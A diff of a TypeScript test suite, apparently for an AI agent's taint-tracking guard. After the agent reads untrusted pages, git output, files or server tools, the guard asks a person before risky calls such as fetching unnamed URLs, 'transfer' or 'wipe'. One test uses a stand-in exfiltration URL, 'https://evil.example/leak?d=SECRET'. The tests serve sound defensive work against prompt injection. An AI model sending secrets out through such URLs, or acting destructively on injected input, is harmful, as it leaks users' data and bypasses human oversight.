@@ -34,7 +34,7 @@ const likeness = ({ annotations, description, name }: Tool.Tool<unknown>) => {
 type Call = string | readonly [name: string, args: { readonly [name: string]: Schema.Json }]
 
 /** The calls that a person is asked about in a run that makes these calls, one a round. */
-const asked = (
+const runAsking = (
   options: Taint.Options,
   tools: ReadonlyArray<Tool.Tool>,
   calls: ReadonlyArray<Call>,
@@ -69,19 +69,19 @@ const reading = Tool.make("fetch_url", {
 
 describe("reads whose address nobody named", () => {
   const after = (url: string, options: Taint.Options = {}, input = "go") =>
-    Effect.map(asked(options, [page, reading], ["fetch_page", ["fetch_url", { url }]], input), names)
+    Effect.map(runAsking(options, [page, reading], ["fetch_page", ["fetch_url", { url }]], input), names)
 
   it.effect("ask behind a mark, and not before", () =>
     Effect.gen(function* () {
       const url = "https://evil.example/leak?d=SECRET"
-      assert.deepStrictEqual(names(yield* asked({}, [reading], [["fetch_url", { url }]])), [])
-      const requests = yield* asked({}, [page, reading], ["fetch_page", ["fetch_url", { url }]])
+      assert.deepStrictEqual(names(yield* runAsking({}, [reading], [["fetch_url", { url }]])), [])
+      const requests = yield* runAsking({}, [page, reading], ["fetch_page", ["fetch_url", { url }]])
       assert.deepStrictEqual(names(requests), ["fetch_url"])
       assert.include(requests[0]?.description, "nobody named: https://evil.example/leak?d=SECRET")
     })
   )
 
-  it.effect("do not ask for hosts of the list, nor for those that the user's message names", () =>
+  it.effect("do not ask for hosts of the list, nor for hosts in the user's message", () =>
     Effect.gen(function* () {
       const options = { hosts: ["docs.example.com", "*.ours.example"] }
       for (const [url, input, is] of [
@@ -104,7 +104,7 @@ describe("reads whose address nobody named", () => {
     })
   )
 
-  it.effect("ask by the look of an argument where a tool names none, and for every text where rules are strict", () =>
+  it.effect("ask by the look of an argument if a tool names none, and for every text if rules are strict", () =>
     Effect.gen(function* () {
       const make = (annotations: Tool.Annotations) =>
         Tool.make("get", {
@@ -117,7 +117,7 @@ describe("reads whose address nobody named", () => {
           execute: () => Effect.succeed("text")
         })
       const after = (args: { readonly [name: string]: string }, strict: boolean, annotations: Tool.Annotations = {}) =>
-        Effect.map(asked({ strict }, [page, make(annotations)], ["fetch_page", ["get", args]], "Find tea"), names)
+        Effect.map(runAsking({ strict }, [page, make(annotations)], ["fetch_page", ["get", args]], "Find tea"), names)
       assert.deepStrictEqual(yield* after({ query: "coffee" }, false), [])
       assert.deepStrictEqual(yield* after({ link: "evil.example" }, false), ["get"])
       assert.deepStrictEqual(yield* after({ query: "https://evil.example" }, false), ["get"])
@@ -158,10 +158,10 @@ describe("strict rules", () => {
   it.effect("a tool without annotations is a source and a deed; without strict it is neither", () =>
     Effect.gen(function* () {
       const tools = [page, look, transfer, wipe]
-      assert.deepStrictEqual(names(yield* asked({}, tools, ["fetch_page", "transfer"])), [])
-      assert.deepStrictEqual(names(yield* asked({}, tools, ["look", "wipe"])), [])
-      assert.deepStrictEqual(names(yield* asked({ strict: true }, tools, ["fetch_page", "transfer"])), ["transfer"])
-      assert.deepStrictEqual(names(yield* asked({ strict: true }, tools, ["look", "wipe"])), ["wipe"])
+      assert.deepStrictEqual(names(yield* runAsking({}, tools, ["fetch_page", "transfer"])), [])
+      assert.deepStrictEqual(names(yield* runAsking({}, tools, ["look", "wipe"])), [])
+      assert.deepStrictEqual(names(yield* runAsking({ strict: true }, tools, ["fetch_page", "transfer"])), ["transfer"])
+      assert.deepStrictEqual(names(yield* runAsking({ strict: true }, tools, ["look", "wipe"])), ["wipe"])
     })
   )
 
@@ -170,15 +170,15 @@ describe("strict rules", () => {
       const own = tool("own", { readOnly: true, openWorld: false })
       const note = tool("note", { destructive: false, openWorld: false })
       const tools = [page, look, own, note, wipe, transfer]
-      assert.deepStrictEqual(names(yield* asked({ strict: true }, tools, ["own", "note", "wipe"])), [])
-      assert.deepStrictEqual(names(yield* asked({ strict: true }, tools, ["fetch_page", "own", "note"])), [])
+      assert.deepStrictEqual(names(yield* runAsking({ strict: true }, tools, ["own", "note", "wipe"])), [])
+      assert.deepStrictEqual(names(yield* runAsking({ strict: true }, tools, ["fetch_page", "own", "note"])), [])
       const named = { strict: true, trusted: ["look"], harmless: ["transfer"] }
-      assert.deepStrictEqual(names(yield* asked(named, tools, ["look", "wipe"])), [])
-      assert.deepStrictEqual(names(yield* asked(named, tools, ["fetch_page", "transfer"])), [])
+      assert.deepStrictEqual(names(yield* runAsking(named, tools, ["look", "wipe"])), [])
+      assert.deepStrictEqual(names(yield* runAsking(named, tools, ["fetch_page", "transfer"])), [])
     })
   )
 
-  it.effect("what a server says of its tools counts where it is trusted, and nowhere else", () =>
+  it.effect("a server's annotations count if the server is trusted, and nowhere else", () =>
     Effect.gen(function* () {
       const read = Tool.make("docs__read", {
         description: "Reads a page of the manual",
@@ -188,7 +188,7 @@ describe("strict rules", () => {
       })
       const send = tool("docs__send", { server: "docs" })
       const after = (servers: ReadonlyArray<string>, call: Call) =>
-        Effect.map(asked({ strict: true, servers }, [page, read, send], ["fetch_page", call]), names)
+        Effect.map(runAsking({ strict: true, servers }, [page, read, send], ["fetch_page", call]), names)
       const reading = ["docs__read", { topic: "layers" }] as const
       assert.deepStrictEqual(yield* after([], reading), ["docs__read"])
       assert.deepStrictEqual(yield* after(["mail"], reading), ["docs__read"])
@@ -211,10 +211,14 @@ describe("strict rules", () => {
       assert.isAtLeast(reading.length, 12)
       for (const { name } of reading) {
         assert.deepStrictEqual(
-          names(yield* asked({ strict: true }, [page, ...local], ["fetch_page", [name, args]])),
+          names(yield* runAsking({ strict: true }, [page, ...local], ["fetch_page", [name, args]])),
           []
         )
-        assert.deepStrictEqual(names(yield* asked({ strict: true }, [wipe, ...local], [name, "wipe"])), ["wipe"], name)
+        assert.deepStrictEqual(
+          names(yield* runAsking({ strict: true }, [wipe, ...local], [name, "wipe"])),
+          ["wipe"],
+          name
+        )
       }
     })
   )
@@ -223,8 +227,12 @@ describe("strict rules", () => {
     Effect.gen(function* () {
       const own = [Calculator.make(), CurrentDatetime.make()].map(likeness)
       for (const { name } of own) {
-        assert.deepStrictEqual(names(yield* asked({ strict: true }, [wipe, ...own], [name, "wipe"])), [], name)
-        assert.deepStrictEqual(names(yield* asked({ strict: true }, [page, ...own], ["fetch_page", name])), [], name)
+        assert.deepStrictEqual(names(yield* runAsking({ strict: true }, [wipe, ...own], [name, "wipe"])), [], name)
+        assert.deepStrictEqual(
+          names(yield* runAsking({ strict: true }, [page, ...own], ["fetch_page", name])),
+          [],
+          name
+        )
       }
       const agent = Agent.make({
         name: "a",
@@ -283,7 +291,7 @@ describe("sources", () => {
       const git = Git.reading().map(likeness)
       const marking: Array<string> = []
       for (const { name } of git) {
-        if ((yield* asked({}, [...git, wipe], [name, "wipe"])).length > 0) marking.push(name)
+        if ((yield* runAsking({}, [...git, wipe], [name, "wipe"])).length > 0) marking.push(name)
       }
       assert.deepStrictEqual(marking, ["git_diff", "git_log", "git_show", "git_blame", "git_branches"])
     })
@@ -311,12 +319,12 @@ describe("sources", () => {
     Effect.gen(function* () {
       const served = tool("mail__list", { server: "mail", readOnly: true })
       const other = tool("files__list", { server: "files", readOnly: true })
-      const first = yield* asked({}, [served, wipe], ["wipe"])
+      const first = yield* runAsking({}, [served, wipe], ["wipe"])
       assert.deepStrictEqual(names(first), ["wipe"])
       assert.include(first[0]?.description, "the tools of the server mail")
-      assert.deepStrictEqual(names(yield* asked({ servers: ["mail"] }, [served, wipe], ["wipe"])), [])
-      assert.deepStrictEqual(names(yield* asked({ servers: ["mail"] }, [served, other, wipe], ["wipe"])), ["wipe"])
-      assert.deepStrictEqual(names(yield* asked({ servers: ["mail"] }, [served, wipe], ["mail__list", "wipe"])), [
+      assert.deepStrictEqual(names(yield* runAsking({ servers: ["mail"] }, [served, wipe], ["wipe"])), [])
+      assert.deepStrictEqual(names(yield* runAsking({ servers: ["mail"] }, [served, other, wipe], ["wipe"])), ["wipe"])
+      assert.deepStrictEqual(names(yield* runAsking({ servers: ["mail"] }, [served, wipe], ["mail__list", "wipe"])), [
         "wipe"
       ])
       // A person who has cleared the conversation is not asked about the same descriptions again.
@@ -351,34 +359,34 @@ describe("sources", () => {
     })
   )
 
-  it.effect("a tool whose name has a server's prefix is the server's, whoever offers it", () =>
+  it.effect("a tool with a server's prefix counts as the server's, from any source", () =>
     Effect.gen(function* () {
       const tools = [tool("mail__read", { readOnly: true }), tool("mail__send"), wipe, page]
       const options = { servers: ["mail"] }
-      assert.deepStrictEqual(names(yield* asked(options, tools, ["mail__read", "wipe"])), ["wipe"])
-      assert.deepStrictEqual(names(yield* asked(options, tools, ["fetch_page", "mail__send"])), ["mail__send"])
+      assert.deepStrictEqual(names(yield* runAsking(options, tools, ["mail__read", "wipe"])), ["wipe"])
+      assert.deepStrictEqual(names(yield* runAsking(options, tools, ["fetch_page", "mail__send"])), ["mail__send"])
     })
   )
 
-  it.effect("what loosens holds for the exact name, and not for a server's tool of that name", () =>
+  it.effect("loosening rules hold for the exact name, and not for a server's tool of that name", () =>
     Effect.gen(function* () {
       const options = { trusted: ["read_mail"], harmless: ["read_mail"], servers: ["s"] }
       const own = tool("read_mail", { openWorld: true, readOnly: true })
-      assert.deepStrictEqual(names(yield* asked(options, [own, wipe], ["read_mail", "wipe"])), [])
+      assert.deepStrictEqual(names(yield* runAsking(options, [own, wipe], ["read_mail", "wipe"])), [])
       const served = tool("read_mail", { server: "s", readOnly: true })
-      assert.deepStrictEqual(names(yield* asked(options, [served, wipe], ["read_mail", "wipe"])), ["wipe"])
-      const error = yield* Effect.flip(asked({ trusted: ["Read-Mail"] }, [own], ["read_mail"]))
+      assert.deepStrictEqual(names(yield* runAsking(options, [served, wipe], ["read_mail", "wipe"])), ["wipe"])
+      const error = yield* Effect.flip(runAsking({ trusted: ["Read-Mail"] }, [own], ["read_mail"]))
       assert.include(String(error), "give its exact name")
-      // What restricts holds however it is spelt.
-      const loose = yield* asked({ untrusted: ["Look"] }, [look, wipe], ["look", "wipe"])
+      // Restricting rules hold in any spelling.
+      const loose = yield* runAsking({ untrusted: ["Look"] }, [look, wipe], ["look", "wipe"])
       assert.deepStrictEqual(names(loose), ["wipe"])
       const full = { trusted: ["s__read"], servers: ["s"] }
       const prefixed = tool("s__read", { server: "s", readOnly: true })
-      assert.deepStrictEqual(names(yield* asked(full, [prefixed, wipe], ["s__read", "wipe"])), [])
+      assert.deepStrictEqual(names(yield* runAsking(full, [prefixed, wipe], ["s__read", "wipe"])), [])
     })
   )
 
-  it.effect("files outside of trusted folders mark whoever reads, lists or searches them", () =>
+  it.effect("files outside of trusted folders mark any run that reads, lists or searches them", () =>
     Effect.gen(function* () {
       const backend = yield* Backend.Backend
       yield* backend.upload(
@@ -415,7 +423,7 @@ describe("sources", () => {
 })
 
 describe("labels of files", () => {
-  /** What one more write and read of a labelled file ask of the backend, after so many files were labelled. */
+  /** The backend requests of one more write and read of a labelled file, after so many labels. */
   const costAfter = Effect.fnUntraced(function* (files: number) {
     const memory = yield* MemoryBackend.make()
     const cost = { calls: 0, characters: 0 }
